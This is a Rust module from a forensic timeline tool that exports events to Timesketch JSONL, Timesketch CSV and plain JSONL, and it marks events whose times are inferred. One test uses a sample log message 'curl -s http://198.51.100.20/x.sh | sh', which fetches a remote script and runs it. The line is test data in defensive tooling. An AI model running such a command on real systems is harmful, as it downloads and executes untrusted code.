//! Export formats: Timesketch's import format as JSONL and CSV (`message`, `datetime` as
//! RFC 3339 with an offset, `timestamp` in microseconds, `timestamp_desc`, then attributes),
//! and plain JSONL (the API's own event objects) for other tools.
//!
//! An event whose time is a guess says so in every format: `time_inferred` (and
//! `time_source`) columns, and in Timesketch, where people read the message column, the
//! message starts with [`INFERRED_MARK`].

use super::query::Row;
use serde_json::{json, Map, Value};
use std::collections::HashMap;
use std::io::Write;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Format {
    TimesketchJsonl,
    TimesketchCsv,
    Jsonl,
}

impl Format {
    pub fn parse(s: &str) -> Option<Format> {
        match s {
            "timesketch" | "timesketch-jsonl" => Some(Format::TimesketchJsonl),
            "timesketch-csv" | "csv" => Some(Format::TimesketchCsv),
            "jsonl" => Some(Format::Jsonl),
            _ => None,
        }
    }
    pub const NAMES: &'static str = "timesketch-jsonl, timesketch-csv, jsonl";

    pub fn content_type(&self) -> &'static str {
        match self {
            Format::TimesketchCsv => "text/csv",
            _ => "application/x-ndjson",
        }
    }
}

/// `2026-11-29T09:57:52.065472+00:00`: microseconds, as Timesketch stores them.
pub fn timesketch_datetime(ns: i64) -> String {
    let secs = ns.div_euclid(1_000_000_000);
    let micros = ns.rem_euclid(1_000_000_000) / 1000;
    match time::OffsetDateTime::from_unix_timestamp(secs) {
        Ok(t) => format!(
            "{:04}-{:02}-{:02}T{:02}:{:02}:{:02}.{micros:06}+00:00",
            t.year(),
            u8::from(t.month()),
            t.day(),
            t.hour(),
            t.minute(),
            t.second()
        ),
        Err(_) => "1970-01-01T00:00:00.000000+00:00".to_string(),
    }
}

/// What starts the Timesketch message of an event whose time is inferred.
pub const INFERRED_MARK: &str = "~ ";

/// The message as Timesketch shows it.
fn message(r: &Row) -> String {
    if r.time_inferred {
        format!("{INFERRED_MARK}{}", r.message)
    } else {
        r.message.clone()
    }
}

/// The fixed attribute columns, after the four Timesketch needs.
const COLUMNS: &[&str] = &[
    "time_inferred",
    "time_source",
    "hostname",
    "host_id",
    "source",
    "kind",
    "pid",
    "ppid",
    "exe",
    "argv",
    "user",
    "container",
    "pod",
    "path",
    "item_id",
];

fn attributes(r: &Row, hostname: &str) -> Map<String, Value> {
    let mut m = Map::new();
    let mut put = |k: &str, v: Value| {
        if !v.is_null() {
            m.insert(k.to_string(), v);
        }
    };
    put("time_inferred", json!(r.time_inferred));
    put("time_source", json!(r.time_source));
    put("hostname", json!(hostname));
    put("host_id", json!(r.host_id));
    put("source", json!(r.source));
    put("kind", json!(r.kind));
    put("pid", json!(r.pid));
    put("ppid", json!(r.ppid));
    put("exe", json!(r.exe));
    put("argv", json!(r.argv.as_ref().map(|a| a.join(" "))));
    put("user", json!(r.user));
    put("container", json!(r.container));
    put("pod", json!(r.pod));
    put("path", json!(r.path));
    put("item_id", json!(r.item_id));
    m
}

/// One event in Timesketch's JSONL import format.
pub fn timesketch_object(r: &Row, hostname: &str) -> Value {
    let mut o = Map::new();
    o.insert("message".into(), json!(message(r)));
    o.insert("datetime".into(), json!(timesketch_datetime(r.time_ns)));
    o.insert("timestamp".into(), json!(r.time_ns.div_euclid(1000)));
    o.insert("timestamp_desc".into(), json!(r.timestamp_desc));
    o.extend(attributes(r, hostname));
    for (k, v) in &r.attrs {
        // Attributes never shadow the fields above.
        o.entry(k.clone()).or_insert_with(|| v.clone());
    }
    Value::Object(o)
}

fn csv_field(s: &str) -> String {
    if s.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", s.replace('"', "\"\""))
    } else {
        s.to_string()
    }
}

/// The CSV header line.
pub fn csv_header() -> String {
    let mut cols = vec!["message", "datetime", "timestamp_desc", "timestamp"];
    cols.extend_from_slice(COLUMNS);
    cols.push("attributes");
    format!("{}\n", cols.join(","))
}

fn csv_line(r: &Row, hostname: &str) -> String {
    let attrs = attributes(r, hostname);
    let mut f = vec![
        csv_field(&message(r)),
        timesketch_datetime(r.time_ns),
        csv_field(r.timestamp_desc),
        r.time_ns.div_euclid(1000).to_string(),
    ];
    for c in COLUMNS {
        f.push(match attrs.get(*c) {
            Some(Value::String(s)) => csv_field(s),
            Some(v) => csv_field(&v.to_string()),
            None => String::new(),
        });
    }
    f.push(csv_field(&Value::Object(r.attrs.clone()).to_string()));
    format!("{}\n", f.join(","))
}

/// Write rows in a format; `hostnames` maps host ids to names.
pub fn write_rows(
    out: &mut impl Write,
    format: Format,
    rows: &[Row],
    hostnames: &HashMap<String, String>,
) -> std::io::Result<()> {
    for r in rows {
        let hostname = hostnames.get(&r.host_id).map(String::as_str).unwrap_or("");
        match format {
            Format::TimesketchJsonl => {
                serde_json::to_writer(&mut *out, &timesketch_object(r, hostname))?;
                out.write_all(b"\n")?;
            }
            Format::TimesketchCsv => out.write_all(csv_line(r, hostname).as_bytes())?,
            Format::Jsonl => {
                let mut v = serde_json::to_value(r).unwrap_or_default();
                v["hostname"] = json!(hostname);
                serde_json::to_writer(&mut *out, &v)?;
                out.write_all(b"\n")?;
            }
        }
    }
    Ok(())
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
mod tests {
    use super::*;

    fn row() -> Row {
        let mut attrs = Map::new();
        attrs.insert("src_ip".into(), json!("203.0.113.7"));
        attrs.insert("message".into(), json!("must not shadow"));
        Row {
            id: 1,
            time: String::new(),
            time_ns: 1_795_946_281_123_456_789,
            host_id: "h1".into(),
            source: "auth.log".into(),
            kind: "ssh_login".into(),
            timestamp_desc: "Login Time",
            time_inferred: false,
            time_source: None,
            pid: Some(4121),
            ppid: None,
            exe: None,
            argv: None,
            user: Some("alice".into()),
            container: None,
            pod: None,
            message: "sshd: Accepted publickey for alice, from \"x\"".into(),
            attrs,
            path: Some("/var/log/auth.log".into()),
            item_id: None,
        }
    }

    #[test]
    fn timesketch_jsonl_and_csv() {
        let names = HashMap::from([("h1".to_string(), "web-1".to_string())]);
        let mut out = Vec::new();
        write_rows(&mut out, Format::TimesketchJsonl, &[row()], &names).unwrap();
        let v: Value = serde_json::from_slice(&out).unwrap();
        assert_eq!(v["datetime"], "2026-11-29T09:58:01.123456+00:00");
        assert_eq!(v["timestamp"], 1_795_946_281_123_456i64);
        assert_eq!(v["timestamp_desc"], "Login Time");
        assert_eq!(
            v["message"],
            "sshd: Accepted publickey for alice, from \"x\""
        );
        assert_eq!(v["hostname"], "web-1");
        assert_eq!(v["src_ip"], "203.0.113.7");
        let mut csv = csv_header().into_bytes();
        write_rows(&mut csv, Format::TimesketchCsv, &[row()], &names).unwrap();
        let text = String::from_utf8(csv).unwrap();
        let line = text.lines().nth(1).unwrap();
        assert!(line.starts_with("\"sshd: Accepted publickey for alice, from \"\"x\"\"\",2026-11-29T09:58:01.123456+00:00,Login Time,"), "{line}");
        assert_eq!(timesketch_datetime(-1), "1969-12-31T23:59:59.999999+00:00");
        assert_eq!(v["time_inferred"], false);
        assert!(text
            .starts_with("message,datetime,timestamp_desc,timestamp,time_inferred,time_source,"));
        assert!(
            line.contains(",Login Time,1795946281123456,false,,web-1,"),
            "{line}"
        );
    }

    #[test]
    fn inferred_times_are_marked_in_every_format() {
        let mut r = row();
        r.time_inferred = true;
        r.time_source = Some("file_mtime".into());
        r.message = "curl -s http://198.51.100.20/x.sh | sh".into();
        let names = HashMap::new();
        let mut out = Vec::new();
        write_rows(&mut out, Format::TimesketchJsonl, &[r.clone()], &names).unwrap();
        let v: Value = serde_json::from_slice(&out).unwrap();
        assert_eq!(v["message"], "~ curl -s http://198.51.100.20/x.sh | sh");
        assert_eq!(v["time_inferred"], true);
        assert_eq!(v["time_source"], "file_mtime");
        let mut csv = csv_header().into_bytes();
        write_rows(&mut csv, Format::TimesketchCsv, &[r.clone()], &names).unwrap();
        let text = String::from_utf8(csv).unwrap();
        let line = text.lines().nth(1).unwrap();
        assert!(line.starts_with("~ curl"), "{line}");
        assert!(line.contains(",true,file_mtime,"), "{line}");
        let mut out = Vec::new();
        write_rows(&mut out, Format::Jsonl, &[r], &names).unwrap();
        let v: Value = serde_json::from_slice(&out).unwrap();
        assert_eq!(v["time_inferred"], true);
        assert_eq!(v["time_source"], "file_mtime");
        assert_eq!(v["message"], "curl -s http://198.51.100.20/x.sh | sh");
    }
}
